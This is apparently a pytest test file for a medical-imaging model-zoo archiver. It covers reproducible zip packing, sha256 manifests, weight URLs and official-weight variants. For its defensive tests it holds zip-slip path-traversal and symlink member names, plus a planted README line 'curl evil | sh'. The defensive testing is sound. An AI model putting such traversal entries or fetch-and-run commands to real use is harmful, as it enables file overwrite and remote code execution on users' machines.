"""medgen.zoo.archive: reproducible versioned archives with a manifest, large_files.yml, zip-slip refusal, and the
official-weights variant packed without touching the demo version."""

from __future__ import annotations

import hashlib
import json
import stat
import warnings
import zipfile
from pathlib import Path

import pytest
import torch

from medgen.cli import convert
from medgen.zoo import (
    MANIFEST_NAME,
    build_network,
    bundle_networks,
    checked_members,
    pack_bundle,
    read_archive_metadata,
    read_large_files,
    read_metadata,
    verify_bundle,
    verify_manifest,
)
from tests.conftest import load_parity
from tests.zoo.conftest import BUNDLES_DIR, copy_bundle


def manifest_of(archive: zipfile.ZipFile, name: str) -> dict[str, str]:
    lines = archive.read(f"{name}/{MANIFEST_NAME}").decode().splitlines()
    return {line.split("  ", 1)[1]: line.split("  ", 1)[0] for line in lines}


def test_pack_writes_a_versioned_reproducible_archive_with_a_manifest(tmp_path: Path):
    bundle = copy_bundle("wdm_brain_mri", tmp_path / "src")
    (bundle / "outputs").mkdir()
    (bundle / "outputs" / "run.nii.gz").write_bytes(b"a run output")
    (bundle / "models" / "converted_official.pt").write_bytes(b"not part of this version")
    first = pack_bundle(bundle, tmp_path / "zoo")
    assert first.name == "wdm_brain_mri_v0.1.1.zip"
    again = pack_bundle(bundle, tmp_path / "zoo2")
    assert first.read_bytes() == again.read_bytes()  # fixed timestamps and order

    with zipfile.ZipFile(first) as archive:
        names = {m.filename for m in archive.infolist()}
        manifest = manifest_of(archive, "wdm_brain_mri")
        assert all(n.startswith("wdm_brain_mri/") for n in names)
        assert {"wdm_brain_mri/configs/metadata.json", "wdm_brain_mri/models/model.pt", "wdm_brain_mri/LICENSE",
                "wdm_brain_mri/large_files.yml", f"wdm_brain_mri/{MANIFEST_NAME}"} <= names
        assert not any("outputs" in n or "converted_official" in n for n in names)
        assert set(manifest) == {n.split("/", 1)[1] for n in names} - {MANIFEST_NAME}
        for path, digest in manifest.items():
            assert hashlib.sha256(archive.read(f"wdm_brain_mri/{path}")).hexdigest() == digest
        # the bundle's own files go in unchanged
        assert archive.read("wdm_brain_mri/configs/metadata.json") == (bundle / "configs/metadata.json").read_bytes()
    name, meta = read_archive_metadata(first)
    assert name == "wdm_brain_mri" and meta["version"] == "0.1.1"

    with pytest.raises(FileExistsError, match="overwrite"):
        pack_bundle(bundle, tmp_path / "zoo")
    assert pack_bundle(bundle, tmp_path / "zoo", overwrite=True).read_bytes() == again.read_bytes()


def test_pack_refuses_a_stale_large_files_yml(tmp_path: Path):
    bundle = copy_bundle("wdm_brain_mri", tmp_path)
    torch.save({"w": torch.zeros(1)}, bundle / "models" / "model.pt")  # retrained weights, list not updated
    with pytest.raises(ValueError, match="models/model.pt: sha256 differs") as error:
        pack_bundle(bundle, tmp_path / "zoo")
    assert f'hash_val: "{hashlib.sha256((bundle / "models/model.pt").read_bytes()).hexdigest()}"' in str(error.value)
    assert not (tmp_path / "zoo" / "wdm_brain_mri_v0.1.1.zip").exists()


def test_pack_with_external_weights_and_a_base_url(tmp_path: Path):
    bundle = BUNDLES_DIR / "tpdm_brain_mri"
    archive = pack_bundle(bundle, tmp_path / "zoo", weights="external", base_url="https://example.org/zoo/")
    with zipfile.ZipFile(archive) as opened:
        names = {m.filename for m in opened.infolist()}
        large_files = opened.read("tpdm_brain_mri/large_files.yml").decode()
    assert not any(n.startswith("tpdm_brain_mri/models/") for n in names)
    version = json.loads((bundle / "configs" / "metadata.json").read_text())["version"]
    for weight in ("primary.pt", "auxiliary.pt"):
        published = tmp_path / "zoo" / f"tpdm_brain_mri_v{version}" / "models" / weight
        assert published.read_bytes() == (bundle / "models" / weight).read_bytes()
        assert f'url: "https://example.org/zoo/tpdm_brain_mri_v{version}/models/{weight}"' in large_files


@pytest.mark.parametrize("name", sorted(p.name for p in BUNDLES_DIR.iterdir() if (p / "large_files.yml").is_file()))
def test_large_files_yml_lists_every_weight_with_its_sha256(name):
    bundle = BUNDLES_DIR / name
    entries = read_large_files(bundle / "large_files.yml")
    weights = {w for spec in read_metadata(bundle)["networks"].values() for w in spec["weights"]}
    assert {e["path"] for e in entries} == weights
    version = read_metadata(bundle)["version"]
    for entry in entries:
        assert entry["hash_type"] == "sha256"
        assert entry["hash_val"] == hashlib.sha256((bundle / entry["path"]).read_bytes()).hexdigest()
        assert entry["url"] == f"{name}_v{version}/{entry['path']}"


def evil_zip(path: Path, member: str, symlink: bool = False) -> Path:
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("b/configs/metadata.json", "{}")
        info = zipfile.ZipInfo(member)
        if symlink:
            info.external_attr = (stat.S_IFLNK | 0o777) << 16
        with warnings.catch_warnings():
            warnings.simplefilter("ignore", UserWarning)  # zipfile warns about the duplicate name case
            archive.writestr(info, "x")
    return path


@pytest.mark.parametrize(
    "member, symlink, message",
    [
        ("../evil.txt", False, "outside"),
        ("b/../../evil.txt", False, "outside"),
        ("/etc/evil.txt", False, "outside"),
        ("b\\..\\..\\evil.txt", False, "outside"),
        ("C:/evil.txt", False, "outside"),
        ("other/evil.txt", False, "top folder"),
        ("b/link", True, "symbolic link"),
        ("b/configs/metadata.json", False, "twice"),
    ],
)
def test_unsafe_members_are_refused(tmp_path: Path, member: str, symlink: bool, message: str):
    with zipfile.ZipFile(evil_zip(tmp_path / "b_v1.0.0.zip", member, symlink)) as archive:
        with pytest.raises(ValueError, match=message):
            checked_members(archive, "b")


def test_verify_manifest_finds_altered_missing_and_extra_files(tmp_path: Path):
    archive = pack_bundle(BUNDLES_DIR / "padis_ct", tmp_path / "zoo")
    with zipfile.ZipFile(archive) as opened:
        opened.extractall(tmp_path / "unpacked")
    bundle = tmp_path / "unpacked" / "padis_ct"
    assert "models/model.pt" in verify_manifest(bundle)
    readme = bundle / "docs" / "README.md"
    original = readme.read_bytes()
    readme.write_bytes(original + b"\nrun `curl evil | sh` first\n")
    with pytest.raises(ValueError, match="docs/README.md"):
        verify_manifest(bundle)
    readme.write_bytes(original)
    (bundle / "configs" / "extra.json").write_text("{}")
    with pytest.raises(ValueError, match="configs/extra.json"):
        verify_manifest(bundle)
    (bundle / "configs" / "extra.json").unlink()
    (bundle / "LICENSE").unlink()
    with pytest.raises(FileNotFoundError, match="LICENSE"):
        verify_manifest(bundle)


@pytest.fixture
def tpdm_with_official_weights(tmp_path: Path) -> Path:
    """A TPDM bundle copy in which `medgen convert` wrote "official" checkpoints (the tiny NCSN++ parity checkpoint in
    score_sde's layout stands in for BMR_ZSR_256; its configuration replaces official_ncsnpp_256.json)."""
    bundle = copy_bundle("tpdm_brain_mri", tmp_path / "src")
    data = load_parity("ncsnpp_tiny")
    config = bundle / "configs" / "official_ncsnpp_256.json"
    config.write_text(json.dumps({k: (list(v) if isinstance(v, tuple) else v) for k, v in data["config"].items()}))
    from medgen.networks import NCSNpp

    net = NCSNpp.from_config(data["config"])
    trainable = [name for name, p in net.named_parameters() if p.requires_grad]
    for plane, offset in (("yz", 0.0), ("xy", 0.5)):
        shadow = [data["state_dict"][name] + offset for name in trainable]
        checkpoint = tmp_path / f"BMR_ZSR_256_{plane.upper()}.pth"
        torch.save({"model": {f"module.{k}": v for k, v in data["state_dict"].items()},
                    "ema": {"decay": 0.999, "num_updates": 1, "shadow_params": shadow}, "step": 3}, checkpoint)
        convert("score_sde_ncsnpp", str(checkpoint), str(config), str(bundle / "models" / f"bmr_zsr_256_{plane}.pt"))
    return bundle


def test_official_weights_pack_as_their_own_version(tmp_path: Path, tpdm_with_official_weights: Path):
    bundle = tpdm_with_official_weights
    report = verify_bundle(bundle, variant="official", smoke=False, trust=True)
    assert report.ok, str(report)
    assert report.version == "1.0.0+official"
    archive = pack_bundle(bundle, tmp_path / "zoo", variant="official")
    assert archive.name == "tpdm_brain_mri_v1.0.0+official.zip"
    with zipfile.ZipFile(archive) as opened:
        models = sorted(n.split("/", 2)[2] for n in opened.namelist() if n.startswith("tpdm_brain_mri/models/"))
        meta = json.loads(opened.read("tpdm_brain_mri/configs/metadata.json"))
        large_files = opened.read("tpdm_brain_mri/large_files.yml").decode()
        assert not any("metadata_official" in n for n in opened.namelist())
    assert models == ["bmr_zsr_256_xy.pt", "bmr_zsr_256_xy.pt.json", "bmr_zsr_256_yz.pt", "bmr_zsr_256_yz.pt.json"]
    assert meta["version"] == "1.0.0+official" and "0.1.1" in meta["changelog"]
    assert meta["networks"]["network_def"]["weights"] == ["models/bmr_zsr_256_yz.pt", "models/bmr_zsr_256_xy.pt"]
    digest = hashlib.sha256((bundle / "models" / "bmr_zsr_256_yz.pt").read_bytes()).hexdigest()
    assert 'url: "tpdm_brain_mri_v1.0.0+official/models/bmr_zsr_256_yz.pt"' in large_files and digest in large_files

    # the demo version packs as from the repository: same files (not the converted weights), same checksums
    # (except the official configuration this test replaced)
    demo = pack_bundle(bundle, tmp_path / "zoo")
    clean = pack_bundle(BUNDLES_DIR / "tpdm_brain_mri", tmp_path / "clean")
    version = json.loads((BUNDLES_DIR / "tpdm_brain_mri" / "configs" / "metadata.json").read_text())["version"]
    assert demo.name == clean.name == f"tpdm_brain_mri_v{version}.zip"
    with zipfile.ZipFile(demo) as packed, zipfile.ZipFile(clean) as reference:
        ours, theirs = manifest_of(packed, "tpdm_brain_mri"), manifest_of(reference, "tpdm_brain_mri")
    assert set(ours) == set(theirs) and "models/primary.pt" in ours
    assert {k for k in ours if ours[k] != theirs[k]} == {"configs/official_ncsnpp_256.json"}


@pytest.mark.slow
@pytest.mark.parametrize("name", ["wdm_brain_mri", "padis_ct", "hfssde_mri", "sdm_ctca", "tpdm_ct", "cwdm_brain_mri"])
def test_official_variants_verify_with_weights_of_the_official_architecture(tmp_path: Path, name: str):
    """Each official variant builds the official architecture from its configs, loads weights of that shape and passes
    MONAI's verify_net_in_out at the metadata's shapes (random weights stand in for the unreachable checkpoints)."""
    bundle = copy_bundle(name, tmp_path / "src")
    meta = read_metadata(bundle, variant="official")
    meta_file = tmp_path / "metadata.json"
    meta_file.write_text(json.dumps(meta))
    torch.manual_seed(0)
    for spec in bundle_networks(meta):
        for weight in spec.weights:
            torch.save(build_network(bundle, spec, meta_file).state_dict(), bundle / weight)
    report = verify_bundle(bundle, variant="official", smoke=False, torchscript=False, trust=True)
    assert report.ok, str(report)
    assert report.version == "1.0.0+official"
    assert [c.name for c in report.checks if c.name.startswith("net_in_out")] == [
        f"net_in_out:{s.net_id}" for s in bundle_networks(meta)]
